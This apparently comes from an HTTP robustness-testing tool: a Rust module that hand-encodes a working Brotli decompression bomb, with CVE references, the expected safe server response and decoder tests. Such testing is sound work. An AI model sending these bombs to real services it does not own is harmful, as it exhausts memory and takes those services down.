//! Zeros, with `Content-Encoding: br`.
//!
//! Brotli by hand (RFC 7932): meta-blocks of 16 MiB, each with one insert-and-copy command that inserts
//! nothing but zeros. All its prefix codes have one symbol, so that literals cost no bits: a meta-block is
//! some 13 bytes.

use bytes::Bytes;

use crate::payload::bits::{Bits, Symbol};
use crate::payload::pieces::CHUNK;
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "brotli-bomb",
    group: Group::Archives,
    about: About {
        summary: "Zeros, with `Content-Encoding: br`.",
        provokes: "Middleware that decompresses a request, or an answer of another service, before any limit is asked: \
                   the ratio is over a million, and libraries that bound gzip often forget the other codings.",
        seen: "CVE-2025-6176 (brotli under Python's HTTP clients), CVE-2026-42587 (netty ignores maxAllocation for br, \
               zstd and snappy), vm0-ai/vm0 issue 10128, berthubert/trifecta issue 48 (1.3 MB to 100 GB).",
        becomes: "512 MiB are 405 bytes on the wire; Node's `brotliDecompress` takes 1 GiB.",
        safe: "415, or 413 from decompressing in pieces under a limit.",
    },
    parameters: &[Parameter {
        name: "size",
        about: "size after decompression",
        takes: Takes::Size { least: 1, most: 1 << 40, default: 1 << 29 },
    }],
    form: Form::Body(make),
};

fn make(values: &Values, _: &Turn) -> Body {
    let size = values.number("size");
    Body::new("application/octet-stream", wire_size(size), chunks(size)).with("content-encoding", "br")
}

/// Bytes of the longest meta-block.
const LONGEST: u64 = 1 << 24;

/// One bit before the first meta-block, two after the last.
fn wire_size(size: u64) -> u64 {
    let bits = |count: u64| {
        let mut bits = Bits::default();
        meta_block(&mut bits, count);
        bits.length()
    };
    let last = if size.is_multiple_of(LONGEST) { 0 } else { bits(size % LONGEST) };
    (1 + size / LONGEST * bits(LONGEST) + last + 2).div_ceil(8)
}

fn chunks(size: u64) -> impl Iterator<Item = Bytes> + Send {
    let mut left = Some(size);
    let mut bits = Bits::default();
    // A window of 64 KiB.
    bits.push((0, 1));
    std::iter::from_fn(move || {
        while let Some(size) = left {
            if bits.length() > CHUNK as u64 * 8 {
                return Some(bits.full().into());
            }
            left = (size > 0).then(|| size.saturating_sub(LONGEST));
            match size.min(LONGEST) {
                // The last meta-block is empty.
                0 => bits.push((0b11, 2)),
                count => meta_block(&mut bits, count),
            }
        }
        let rest = std::mem::take(&mut bits).bytes();
        (!rest.is_empty()).then(|| rest.into())
    })
}

/// A meta-block of so many zeros (RFC 7932, section 9.2).
fn meta_block(bits: &mut Bits, count: u64) {
    let nibbles = (count.ilog2() / 4 + 1).clamp(4, 6);
    let nibbles = if (count - 1) >> (nibbles * 4 - 4) == 0 { (nibbles - 1).max(4) } else { nibbles };
    // Not the last.
    bits.push((0, 1));
    bits.push((nibbles - 4, 2));
    bits.push((count as u32 - 1, nibbles * 4));
    // Compressed; one type of block and one prefix code for literals, for commands and for distances.
    bits.push((0, 1 + 3 + 6 + 2 + 2));
    let (command, extra) = insert(count as u32);
    for (symbol, width) in [(0, 8), (command, 10), (0, 6)] {
        // A simple code (1) of one symbol (0).
        bits.push((0b0001, 4));
        bits.push((symbol, width));
    }
    bits.push(extra);
}

/// The command that inserts so many literals, and how many more than its least. What it copies is left
/// out: the meta-block ends before.
fn insert(count: u32) -> (u32, Symbol) {
    let code = INSERT.iter().rposition(|(least, _)| *least <= count).unwrap_or_default();
    let (least, extra) = INSERT[code];
    ([128, 256, 448][code / 8] + (code as u32 % 8 * 8), (count - least, extra))
}

/// Insert lengths (RFC 7932, section 5): the least, and how many further bits.
#[rustfmt::skip]
const INSERT: [(u32, u32); 24] = [
    (0, 0), (1, 0), (2, 0), (3, 0), (4, 0), (5, 0), (6, 1), (8, 1),
    (10, 2), (14, 2), (18, 3), (26, 3), (34, 4), (50, 4), (66, 5), (98, 5),
    (130, 6), (194, 7), (322, 8), (578, 9), (1090, 10), (2114, 12), (6210, 14), (22_594, 24),
];

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(size: u64) -> u64 {
        let wire: Vec<u8> = chunks(size).flatten().collect();
        assert_eq!(wire.len() as u64, wire_size(size), "{size}");
        let mut zeros = 0;
        let mut reader = brotli_decompressor::Decompressor::new(&wire[..], 1 << 16);
        let mut some = vec![1; 1 << 16];
        loop {
            let count = std::io::Read::read(&mut reader, &mut some).unwrap();
            assert!(some[..count].iter().all(|byte| *byte == 0));
            zeros += count as u64;
            if count == 0 {
                return zeros;
            }
        }
    }

    #[test]
    fn a_real_decoder_finds_every_zero() {
        let around = INSERT.iter().flat_map(|(least, _)| [*least + 1, *least + 2]).map(u64::from);
        let lengths = [16, 20, 24].into_iter().flat_map(|bits| [(1 << bits) - 1, 1 << bits, (1 << bits) + 1]);
        for size in around.chain(lengths) {
            assert_eq!(decoded(size), size);
        }
    }

    #[test]
    fn a_gibibyte_is_809_bytes_and_a_tebibyte_is_begun_at_once() {
        assert_eq!(wire_size(1 << 30), 809);
        assert_eq!(chunks(1 << 40).map(|chunk| chunk.len() as u64).sum::<u64>(), wire_size(1 << 40));
    }
}
